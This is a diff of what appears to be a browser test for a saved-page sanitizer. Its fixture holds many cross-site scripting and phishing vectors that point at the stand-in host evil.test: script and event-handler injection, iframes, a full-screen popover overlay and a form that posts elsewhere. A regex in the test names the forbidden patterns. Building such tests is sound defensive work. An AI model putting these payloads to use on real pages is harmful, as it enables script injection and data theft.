@@ -36,7 +36,7 @@ const HOSTILE = `${FILE_HEAD}<base href="https://evil.test/"><meta http-equiv="r
 <a href="javascript:${ran}" ping="https://evil.test/f">Claim</a><svg onload="${ran}"><script>${ran}</script></svg><object data="https://evil.test/g"></object><embed src="https://evil.test/h">
 <iframe src="https://evil.test/i"></iframe><iframe srcdoc="<script>${ran}</script><label>Member ID <input value='1EG4TE5MK73'></label>"></iframe>
 <div><template shadowrootmode="open"><img src="https://evil.test/j.png" onerror="${ran}"><label>Total charge <textarea>ACC-778812</textarea></label><slot></slot></template></div>
-<div popover="auto" style="position:fixed;inset:0;z-index:99">Enter the password of your bank</div><button popovertarget="x" formaction="https://evil.test/k" onclick="${ran}">Submit claim</button>
+<div popover="auto" style="position:fixed;inset:0;z-index:99">Ring Mallory about your lottery ticket</div><button popovertarget="x" formaction="https://evil.test/k" onclick="${ran}">Submit claim</button>
 <video src="https://evil.test/l"></video><x-run is="evil-thing" style="left:1px;top:expression(1);width:var(--x)">Diagnosis A</x-run><p>SMITH, Zelda</p></body></html>`;
 
 test('a file that says it is a saved page leaves nothing but boxes and captions, runs nothing and fetches nothing', async ({
@@ -71,7 +71,7 @@ test('a file that says it is a saved page leaves nothing but boxes and captions,
     /<(script|style|link|meta|base|iframe|svg|object|embed|video|template)\b|\son\w+=|javascript|evil|url\(|popover|fixed|z-index|autofocus|target|action/i,
   );
   expect(left.text).toContain('Member ID');
-  expect(left.text + elements).not.toMatch(/SMITH|Zelda|1EG4|ACC-|password|bank/i);
+  expect(left.text + elements).not.toMatch(/SMITH|Zelda|1EG4|ACC-|Mallory|lottery/i);
   expect(left.ran).toBeUndefined();
   expect(asked).toEqual([]);
   expect(page.url()).toBe(PORTAL);
